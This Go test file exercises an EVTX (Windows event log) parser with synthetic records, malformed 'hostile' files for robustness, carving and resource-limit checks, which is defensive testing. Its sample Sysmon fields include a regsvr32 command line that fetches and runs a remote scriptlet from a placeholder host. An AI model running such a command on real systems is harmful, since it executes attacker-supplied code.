package parser

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"
)

// read reads all events of an in-memory file.
func read(t testing.TB, data []byte, opts Options) ([]*Event, *Reader) {
	t.Helper()
	r, err := NewReader(bytes.NewReader(data), int64(len(data)), opts)
	if err != nil {
		t.Fatalf("NewReader: %v", err)
	}
	var evs []*Event
	if err := r.Events(context.Background(), func(e *Event) error { evs = append(evs, e); return nil }); err != nil {
		t.Fatalf("Events: %v", err)
	}
	return evs, r
}

var sampleFields = []Field{
	{"Image", `C:\Windows\System32\regsvr32.exe`},
	{"CommandLine", `regsvr32.exe /s /u /i:http://x/y.sct scrobj.dll`},
	{"ParentImage", `C:\Windows\System32\cmd.exe`},
}

func TestTemplateRecord(t *testing.T) {
	data := mkFile(mkChunk([]rec{
		{num: 1, body: sysmonBody(16792, 1, sampleFields)},
		{num: 2, body: sysmonBody(16793, 1, sampleFields[:1])},
	}, chunkOpts{}))
	evs, r := read(t, data, Options{})
	if p := r.Problems(); len(p) != 0 {
		t.Fatalf("problems: %v", p)
	}
	if len(evs) != 2 {
		t.Fatalf("got %d events, want 2", len(evs))
	}
	e := evs[0]
	wantTime := time.Date(2019, 5, 12, 18, 35, 5, 780949300, time.UTC)
	checks := []struct{ name, got, want string }{
		{"RecordNum", itoa(e.RecordNum), "1"},
		{"RecordID", itoa(e.RecordID), "16792"},
		{"EventID", itoa(uint64(e.EventID)), "1"},
		{"Provider", e.Provider, "Microsoft-Windows-Sysmon"},
		{"Channel", e.Channel, "Microsoft-Windows-Sysmon/Operational"},
		{"Computer", e.Computer, "WS1"},
		{"UserID", e.UserID, "S-1-5-18"},
		{"Keywords", itoa(e.Keywords), "9223372036854775808"},
		{"Time", e.Time.Format(time.RFC3339Nano), wantTime.Format(time.RFC3339Nano)},
		{"Offset", itoa(uint64(e.Offset)), itoa(fileHeaderSize + chunkHeaderSize)},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q", c.name, c.got, c.want)
		}
	}
	if !equalFields(e.Fields, sampleFields) {
		t.Errorf("fields = %q, want %q", e.Fields, sampleFields)
	}
	if !equalFields(evs[1].Fields, sampleFields[:1]) {
		t.Errorf("second record (template by reference) fields = %q", evs[1].Fields)
	}
	st := r.Stats()
	if st.Records != 2 || st.Chunks != 1 || st.Version != "3.1" || st.Recovered != 0 {
		t.Errorf("stats = %+v", st)
	}
}

func itoa(v uint64) string { return strings.TrimSpace(strings.Repeat(" ", 0) + uintStr(v)) }
func uintStr(v uint64) string {
	return string(appendValue(nil, typUint64, binary.LittleEndian.AppendUint64(nil, v)))
}

// plainBody writes a template-less record (EVTX 3.2 style) with literal
// System values and unnamed/named Data.
func plainBody(x *bx) {
	x.fragment()
	x.open("Event", false, false)
	x.closeStart()
	x.open("System", false, false)
	x.closeStart()
	x.open("Provider", true, false)
	x.attr("Name", true)
	x.text("PowerShell")
	x.closeEmpty()
	x.leaf("EventID", "4103", false)
	x.leaf("EventRecordID", "29353", false)
	x.open("TimeCreated", true, false)
	x.attr("SystemTime", true)
	x.text("2021-06-03T13:05:20.242837300Z")
	x.closeEmpty()
	x.leaf("Keywords", "0x10", false)
	x.leaf("Channel", "Microsoft-Windows-PowerShell/Operational", false)
	x.endElement()
	x.open("EventData", false, false)
	x.closeStart()
	x.open("Data", true, false)
	x.attr("Name", true)
	x.text("Payload")
	x.closeStart()
	x.text("a ")
	x.u8(0x09) // entity reference &amp;
	x.name("amp")
	x.u8(0x08) // character reference
	x.u16('!')
	x.u8(0x07) // CDATA
	x.u16(2)
	x.utf16("<>")
	x.endElement()
	x.leaf("Data", "first", false)
	x.leaf("Data", "second", false)
	x.endElement()
	x.open("UserData", false, false)
	x.closeStart()
	x.open("LogFileCleared", false, false)
	x.closeStart()
	x.leaf("SubjectUserName", "bob", false)
	x.open("Info", true, false)
	x.attr("Kind", true)
	x.text("wipe")
	x.closeEmpty()
	x.endElement()
	x.endElement()
	x.endElement()
	x.eof()
}

func TestTemplatelessRecord(t *testing.T) {
	evs, r := read(t, mkFile(mkChunk([]rec{{num: 7, body: plainBody}}, chunkOpts{})), Options{})
	if len(evs) != 1 || len(r.Problems()) != 0 {
		t.Fatalf("events %d, problems %v", len(evs), r.Problems())
	}
	e := evs[0]
	if e.EventID != 4103 || e.RecordID != 29353 || e.Keywords != 0x10 || e.Provider != "PowerShell" {
		t.Errorf("system values: %+v", e)
	}
	if got := e.Time.Format(time.RFC3339Nano); got != "2021-06-03T13:05:20.2428373Z" {
		t.Errorf("time %s", got)
	}
	want := []Field{{"Payload", "a &!<>"}, {"Data", "first"}, {"Data#2", "second"}, {"SubjectUserName", "bob"},
		{"Info_Kind", "wipe"}, {"Info", ""}}
	if !equalFields(e.Fields, want) {
		t.Errorf("fields %q, want %q", e.Fields, want)
	}
}

// hostile builds files that must be read without panic, hang or blow-up;
// each names what must appear among the problems and how many events.
func hostileCases() []struct {
	name    string
	data    []byte
	opts    Options
	events  int
	problem string // substring of some problem ("" = none expected)
} {
	good := rec{num: 1, body: sysmonBody(1, 1, sampleFields)}
	big := strings.Repeat("A", 30000)
	type hc = struct {
		name    string
		data    []byte
		opts    Options
		events  int
		problem string
	}
	// cut in the middle of the second record
	truncated := mkFile(mkChunk([]rec{good, {num: 2, body: sysmonBody(2, 1, sampleFields)}}, chunkOpts{}))
	second := fileHeaderSize + chunkHeaderSize + int(binary.LittleEndian.Uint32(truncated[fileHeaderSize+chunkHeaderSize+4:]))
	truncated = truncated[:second+100]
	cases := []hc{
		{"header CRC", mkFile(mkChunk([]rec{good}, chunkOpts{badHeaderCRC: true})), Options{}, 1, "chunk header CRC mismatch"},
		{"data CRC", mkFile(mkChunk([]rec{good}, chunkOpts{badDataCRC: true})), Options{}, 1, "chunk data CRC mismatch"},
		{"chunk magic, no carving", mkFile(mkChunk([]rec{good}, chunkOpts{badMagic: true})), Options{}, 0, "chunk header magic missing"},
		{"chunk magic, carving", mkFile(mkChunk([]rec{good}, chunkOpts{badMagic: true})), Options{Carve: true}, 1, "carving"},
		{"truncated file", truncated, Options{}, 1, "file ends inside chunk"},
		{"bad record size", mkFile(mkChunk([]rec{{num: 1, body: sysmonBody(1, 1, nil), size: 0xfffffff0}, good}, chunkOpts{})), Options{}, 1, "record size"},
		{"huge value count", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) {
			x.fragment()
			x.instance(1, 0, func(t *bx) { t.open("Event", false, true); t.closeEmpty() }, nil)
			binary.LittleEndian.PutUint32(x.b[len(x.b)-4:], 0xffffffff)
			x.eof()
		}}}, chunkOpts{})), Options{}, 0, "template instance with 4294967295 values"},
		{"self-referencing template", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) {
			x.fragment()
			x.instance(1, 0, func(t *bx) {
				t.open("Event", false, true)
				t.closeStart()
				t.instance(1, x.base+4+10, nil, nil) // refers to the definition being compiled
				t.endElement()
			}, nil)
			x.eof()
		}}}, chunkOpts{})), Options{}, 0, "refers to itself"},
		{"deep nesting", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) {
			x.fragment()
			for i := 0; i < 200; i++ {
				x.open("E", false, false)
				x.closeStart()
			}
			x.eof()
		}}}, chunkOpts{})), Options{}, 0, "nesting too deep"},
		{"amplification", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) {
			x.fragment()
			x.instance(1, 0, func(t *bx) {
				t.open("Event", false, true)
				t.closeStart()
				t.open("EventData", false, true)
				t.closeStart()
				for i := 0; i < 1000; i++ {
					t.open("Data", false, true)
					t.closeStart()
					t.subst(0, 0x01)
					t.endElement()
				}
				t.endElement()
				t.endElement()
			}, []tval{{0x01, appendUTF16LE(nil, big[:10000])}})
			x.eof()
		}}}, chunkOpts{})), Options{}, 0, "exceed the per-record limit"},
		{"amplification across records", mkFile(mkChunk(fanOut(), chunkOpts{})), Options{}, -1, "per-chunk output limit"},
		{"work amplification", mkFile(mkChunk(busyWork(), chunkOpts{})), Options{}, -1, "decoding work limit exceeded"},
		{"unknown token", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) { x.fragment(); x.u8(0x1f); x.eof() }}}, chunkOpts{})), Options{}, 0, "unknown token 0x1f"},
		{"name offset out of range", mkFile(mkChunk([]rec{{num: 1, body: func(x *bx) {
			x.fragment()
			x.u8(0x01)
			x.u32(0)
			x.u32(0xfffffff0)
			x.eof()
		}}}, chunkOpts{})), Options{}, 0, "name offset"},
		{"slack record carved", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{{num: 9, body: sysmonBody(9, 1, sampleFields)}}})), Options{Carve: true}, 2, ""},
		{"slack duplicate dropped", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{{num: 1, body: sysmonBody(1, 1, sampleFields)}}})), Options{Carve: true}, 1, ""},
		{"no file header", append(make([]byte, fileHeaderSize), mkChunk([]rec{good}, chunkOpts{})...), Options{}, 1, "file header magic missing"},
	}
	return cases
}

// fanOut is one record defining a template that renders its only value
// 1000 times, then as many small records using it as fit in the chunk.
func fanOut() []rec {
	var defOff int
	first := rec{num: 1, body: func(x *bx) {
		x.fragment()
		defOff = x.instance(1, 0, func(t *bx) {
			t.open("Event", false, true)
			t.closeStart()
			t.open("EventData", false, true)
			t.closeStart()
			t.open("Data", false, true)
			t.closeStart()
			for i := 0; i < 1000; i++ {
				t.subst(0, 0x0f)
			}
			t.endElement()
			t.endElement()
			t.endElement()
		}, []tval{{0x0f, guidBytes}})
		x.eof()
	}}
	recs := []rec{first}
	for i := 2; i < 700; i++ {
		recs = append(recs, rec{num: uint64(i), body: func(x *bx) {
			x.fragment()
			x.instance(1, defOff, nil, []tval{{0x0f, guidBytes}})
			x.eof()
		}})
	}
	return recs
}

// busyWork is a template of 10,000 empty text tokens (no output, all
// work) and as many small records using it as fit in the chunk.
func busyWork() []rec {
	var defOff int
	recs := []rec{{num: 1, body: func(x *bx) {
		x.fragment()
		defOff = x.instance(1, 0, func(t *bx) {
			t.open("Event", false, true)
			t.closeStart()
			for i := 0; i < 10000; i++ {
				t.text("")
			}
			t.endElement()
		}, nil)
		x.eof()
	}}}
	for i := 2; i < 400; i++ {
		recs = append(recs, rec{num: uint64(i), body: func(x *bx) {
			x.fragment()
			x.instance(1, defOff, nil, nil)
			x.eof()
		}})
	}
	return recs
}

func TestHostileInputs(t *testing.T) {
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			evs, r := read(t, c.data, c.opts)
			if c.events >= 0 && len(evs) != c.events {
				t.Errorf("events = %d, want %d", len(evs), c.events)
			}
			probs := r.Problems()
			found := c.problem == ""
			for _, p := range probs {
				if strings.Contains(p.Reason(), c.problem) {
					found = true
				}
				if p.Offset < 0 || p.Offset > int64(len(c.data)) {
					t.Errorf("problem offset %d outside the file", p.Offset)
				}
				// Malformed data is a FormatError at the problem's offset,
				// and its reason does not repeat an offset.
				var fe *FormatError
				if !errors.As(p.Err, &fe) || fe.Offset != p.Offset || strings.Contains(p.Reason(), "at offset") ||
					strings.Count(p.String(), "offset 0x") != 1+strings.Count(p.Reason(), "offset 0x") {
					t.Errorf("problem %v: error %#v", p, p.Err)
				}
			}
			if !found {
				t.Errorf("no problem containing %q in %v", c.problem, probs)
			}
			if c.problem == "" && len(probs) != 0 {
				t.Errorf("unexpected problems %v", probs)
			}
			st := r.Stats()
			if st.Records != len(evs) || st.Problems != len(probs) {
				t.Errorf("stats %+v disagree with %d events, %d problems", st, len(evs), len(probs))
			}
		})
	}
}

func TestNotEVTX(t *testing.T) {
	for _, data := range [][]byte{nil, []byte("hello"), bytes.Repeat([]byte{0x7f, 'E', 'L', 'F'}, 5000)} {
		if _, err := NewReader(bytes.NewReader(data), int64(len(data)), Options{}); !errors.Is(err, ErrNotEVTX) {
			t.Errorf("%d bytes: err = %v, want ErrNotEVTX", len(data), err)
		}
	}
}

// TestCraftedAllocationBound reads crafted files and checks that reading
// allocates no more than 64 MiB beyond the file size (bytes allocated in
// total bound the peak).
func TestCraftedAllocationBound(t *testing.T) {
	for _, c := range hostileCases() {
		// sixteen chunks of the same hostile content
		var chunks [][]byte
		body := c.data[min(len(c.data), fileHeaderSize):]
		for range 16 {
			chunks = append(chunks, body)
		}
		data := append(append([]byte(nil), c.data[:min(len(c.data), fileHeaderSize)]...), bytes.Join(chunks, nil)...)
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		r, err := NewReader(bytes.NewReader(data), int64(len(data)), Options{Carve: true, Workers: 2})
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		n := 0
		if err := r.Events(context.Background(), func(*Event) error { n++; return nil }); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		runtime.ReadMemStats(&after)
		alloc := after.TotalAlloc - before.TotalAlloc
		if limit := uint64(len(data)) + 64<<20; alloc > limit {
			t.Errorf("%s: %d bytes allocated reading %d bytes (limit %d)", c.name, alloc, len(data), limit)
		}
		t.Logf("%-28s %8d bytes read, %9d bytes allocated, %d events", c.name, len(data), alloc, n)
	}
}

func TestStopEarly(t *testing.T) {
	var chunks [][]byte
	for i := range 8 {
		chunks = append(chunks, mkChunk([]rec{{num: uint64(i + 1), body: sysmonBody(uint64(i+1), 1, sampleFields)}}, chunkOpts{}))
	}
	data := mkFile(chunks...)
	for _, workers := range []int{1, 2, 4} {
		r, _ := NewReader(bytes.NewReader(data), int64(len(data)), Options{Workers: workers})
		n := 0
		err := r.Events(context.Background(), func(*Event) error {
			if n++; n == 3 {
				return ErrStop
			}
			return nil
		})
		if err != nil || n != 3 {
			t.Errorf("workers %d: ErrStop gave err %v after %d events", workers, err, n)
		}
		mine := errors.New("mine")
		if err := r.Events(context.Background(), func(*Event) error { return mine }); err != mine {
			t.Errorf("workers %d: err = %v, want the callback's", workers, err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		if err := r.Events(ctx, func(*Event) error { return nil }); !errors.Is(err, context.Canceled) {
			t.Errorf("workers %d: cancelled ctx gave %v", workers, err)
		}
		// in order, all of them
		var ids []uint64
		r.Events(context.Background(), func(e *Event) error { ids = append(ids, e.RecordID); return nil })
		for i, id := range ids {
			if id != uint64(i+1) {
				t.Fatalf("workers %d: order %v", workers, ids)
			}
		}
		if len(ids) != 8 {
			t.Errorf("workers %d: %d events", workers, len(ids))
		}
	}
}

// TestFileHeader covers the file header's fields: version, flags, CRC and
// the chunk count, which is reported but not trusted.
func TestFileHeader(t *testing.T) {
	good := mkFile(mkChunk([]rec{{num: 1, body: sysmonBody(1, 1, sampleFields)}}, chunkOpts{}))
	set := func(f func(h []byte), fixCRC bool) []byte {
		d := append([]byte(nil), good...)
		f(d)
		if fixCRC {
			binary.LittleEndian.PutUint32(d[0x7c:], crc32IEEE(d[:0x78]))
		}
		return d
	}
	le := binary.LittleEndian
	tests := []struct {
		name         string
		data         []byte
		version      string
		dirty, full  bool
		headerChunks int
		problem      string
	}{
		{"3.1 clean", good, "3.1", false, false, 1, ""},
		{"3.2 dirty", set(func(h []byte) { le.PutUint16(h[0x24:], 2); le.PutUint32(h[0x78:], 1) }, true), "3.2", true, false, 1, ""},
		{"full", set(func(h []byte) { le.PutUint32(h[0x78:], 2) }, true), "3.1", false, true, 1, ""},
		{"chunk count 0", set(func(h []byte) { le.PutUint16(h[0x2a:], 0) }, true), "3.1", false, false, 0, ""},
		{"header CRC", set(func(h []byte) { le.PutUint64(h[0x18:], 99) }, false), "3.1", false, false, 1, "file header CRC mismatch"},
		{"version 4.0", set(func(h []byte) { le.PutUint16(h[0x24:], 0); le.PutUint16(h[0x26:], 4) }, true), "4.0", false, false, 1, "unknown format version 4.0"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var seen []Problem
			evs, r := read(t, tc.data, Options{OnProblem: func(p Problem) { seen = append(seen, p) }})
			st := r.Stats()
			if len(evs) != 1 || st.Version != tc.version || st.Dirty != tc.dirty || st.Full != tc.full || st.HeaderChunks != tc.headerChunks {
				t.Errorf("%d events, stats %+v", len(evs), st)
			}
			probs := r.Problems()
			if len(seen) != len(probs) {
				t.Errorf("OnProblem saw %d problems, Problems has %d", len(seen), len(probs))
			}
			switch {
			case tc.problem == "" && len(probs) != 0:
				t.Errorf("unexpected problems %v", probs)
			case tc.problem != "" && (len(probs) != 1 || !strings.Contains(probs[0].Reason(), tc.problem)):
				t.Errorf("problems %v, want %q", probs, tc.problem)
			}
		})
	}
}

// TestProblemsInFileOrder checks that problems and events come in file
// order across chunks decoded in parallel.
func TestProblemsInFileOrder(t *testing.T) {
	var chunks [][]byte
	for i := range 6 {
		chunks = append(chunks, mkChunk([]rec{{num: uint64(i + 1), body: sysmonBody(uint64(i+1), 1, sampleFields)}}, chunkOpts{badDataCRC: i%2 == 0}))
	}
	data := mkFile(chunks...)
	var offsets []int64
	r, _ := NewReader(bytes.NewReader(data), int64(len(data)), Options{Workers: 3, OnProblem: func(p Problem) { offsets = append(offsets, p.Offset) }})
	err := r.Events(context.Background(), func(e *Event) error { offsets = append(offsets, e.Offset); return nil })
	if err != nil {
		t.Fatal(err)
	}
	if len(offsets) != 9 {
		t.Fatalf("%d problems and events, want 9", len(offsets))
	}
	for i := 1; i < len(offsets); i++ {
		if offsets[i] < offsets[i-1] {
			t.Fatalf("not in file order: %v", offsets)
		}
	}
}

func crc32IEEE(b []byte) uint32 { return crc32.ChecksumIEEE(b) }

// TestWorkersCapped: an absurd worker count costs no more than the chunks
// need (each worker holds decoding buffers; 10 million of them took 15 GB).
func TestWorkersCapped(t *testing.T) {
	var chunks [][]byte
	for i := range 8 {
		chunks = append(chunks, mkChunk([]rec{{num: uint64(i + 1), body: sysmonBody(uint64(i+1), 1, sampleFields)}}, chunkOpts{}))
	}
	data := mkFile(chunks...)
	for _, workers := range []int{8, 10_000_000} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		r, err := NewReader(bytes.NewReader(data), int64(len(data)), Options{Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		if err := r.Events(context.Background(), func(*Event) error { n++; return nil }); err != nil || n != 8 {
			t.Fatalf("workers %d: %d events, %v", workers, n, err)
		}
		runtime.ReadMemStats(&after)
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 64<<20 {
			t.Errorf("workers %d: %d bytes allocated for %d bytes of log", workers, alloc, len(data))
		}
	}
}

// TestProblemForms: a Problem gives its offset once (String, JSON) and
// carries its error for errors.As.
func TestProblemForms(t *testing.T) {
	tests := []struct {
		name       string
		p          Problem
		reason     string
		str        string
		json       string
		formatErr  bool
		wrapsLimit bool
	}{
		{"format error", problemAt(0x11000, "chunk header magic missing; chunk skipped"),
			"chunk header magic missing; chunk skipped", "offset 0x11000: chunk header magic missing; chunk skipped",
			`{"offset":69632,"reason":"chunk header magic missing; chunk skipped"}`, true, false},
		{"read error", Problem{Offset: 0x1000, Err: fmt.Errorf("read chunk: %w", io.ErrUnexpectedEOF)},
			"read chunk: unexpected EOF", "offset 0x1000: read chunk: unexpected EOF",
			`{"offset":4096,"reason":"read chunk: unexpected EOF"}`, false, false},
		{"a limit behind a format error", Problem{Offset: 0x1200, Err: &FormatError{Offset: 0x1200, Msg: "record 3 skipped: " + errBudget.Error(), Err: errBudget}},
			"record 3 skipped: decoding work limit exceeded", "offset 0x1200: record 3 skipped: decoding work limit exceeded",
			`{"offset":4608,"reason":"record 3 skipped: decoding work limit exceeded"}`, true, true},
		{"the input as a whole", Problem{Err: &InputError{Path: "x.evtx", Err: ErrNoEvtx}},
			"parser: no .evtx file found in x.evtx", "parser: no .evtx file found in x.evtx",
			`{"offset":0,"reason":"parser: no .evtx file found in x.evtx"}`, false, false},
		{"the file header", problemAt(0, "file header magic missing"),
			"file header magic missing", "offset 0x0: file header magic missing",
			`{"offset":0,"reason":"file header magic missing"}`, true, false},
	}
	for _, tc := range tests {
		var fe *FormatError
		b, err := json.Marshal(tc.p)
		switch {
		case tc.p.Reason() != tc.reason:
			t.Errorf("%s: Reason %q", tc.name, tc.p.Reason())
		case tc.p.String() != tc.str:
			t.Errorf("%s: String %q", tc.name, tc.p.String())
		case err != nil || string(b) != tc.json:
			t.Errorf("%s: JSON %s, %v", tc.name, b, err)
		case errors.As(tc.p.Err, &fe) != tc.formatErr:
			t.Errorf("%s: errors.As FormatError = %v", tc.name, !tc.formatErr)
		case errors.Is(tc.p.Err, errBudget) != tc.wrapsLimit:
			t.Errorf("%s: errors.Is limit = %v", tc.name, !tc.wrapsLimit)
		}
	}
}

// TestCarvedRecords: a carved candidate that decodes to no record (no
// record id, no time or no event data) is a problem, never an event; a
// carved copy of a live record is dropped and counted, also when the live
// record's chunk has a damaged header (outside the coverage).
func TestCarvedRecords(t *testing.T) {
	good := rec{num: 1, body: sysmonBody(1, 1, sampleFields)}
	other := []Field{{"Image", `C:\Windows\System32\cmd.exe`}}
	tests := []struct {
		name       string
		data       []byte
		events     int // delivered
		recovered  int
		duplicates int
		problem    string // a problem containing this ("" none)
	}{
		{"a deleted record is recovered", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{{num: 9, body: sysmonBody(9, 1, other)}}})),
			2, 1, 0, ""},
		{"a shell without event data or record id", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{{num: 9, body: sysmonBody(0, 2, nil)}}})),
			1, 0, 0, "carved record 9 (event 2) has no record id, no event data: not a record"},
		{"a shell without event data", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{{num: 9, body: sysmonBody(9, 2, nil)}}})),
			1, 0, 0, "carved record 9 (event 2) has no event data"},
		{"a copy of a live record of an intact chunk", mkFile(mkChunk([]rec{good}, chunkOpts{slack: []rec{good}})),
			1, 0, 1, ""},
		{"a copy of a live record of a chunk with a damaged header",
			mkFile(mkChunk([]rec{good}, chunkOpts{badHeaderCRC: true}),
				mkChunk([]rec{{num: 2, body: sysmonBody(2, 1, other)}}, chunkOpts{slack: []rec{good}})),
			2, 0, 1, "chunk header CRC mismatch"},
		{"the same record number with other content is kept",
			mkFile(mkChunk([]rec{good}, chunkOpts{badHeaderCRC: true}),
				mkChunk([]rec{{num: 2, body: sysmonBody(2, 1, other)}}, chunkOpts{slack: []rec{{num: 1, body: sysmonBody(1, 1, other)}}})),
			3, 1, 0, "chunk header CRC mismatch"},
	}
	for _, tc := range tests {
		for _, workers := range []int{1, 2} {
			evs, r := read(t, tc.data, Options{Carve: true, Workers: workers})
			st := r.Stats()
			if len(evs) != tc.events || st.Recovered != tc.recovered || st.Duplicates != tc.duplicates {
				t.Errorf("%s: %d events, %d recovered, %d duplicates; want %d, %d, %d", tc.name, len(evs), st.Recovered, st.Duplicates,
					tc.events, tc.recovered, tc.duplicates)
			}
			found := tc.problem == ""
			for _, p := range r.Problems() {
				found = found || strings.Contains(p.Reason(), tc.problem)
			}
			if !found || (tc.problem == "" && len(r.Problems()) > 0) {
				t.Errorf("%s: problems %v, want one with %q", tc.name, r.Problems(), tc.problem)
			}
			for _, e := range evs {
				if e.Recovered && (e.RecordID == 0 || e.Time.IsZero() || len(e.Fields) == 0) {
					t.Errorf("%s: a shell was delivered: %+v", tc.name, e)
				}
			}
		}
	}
}
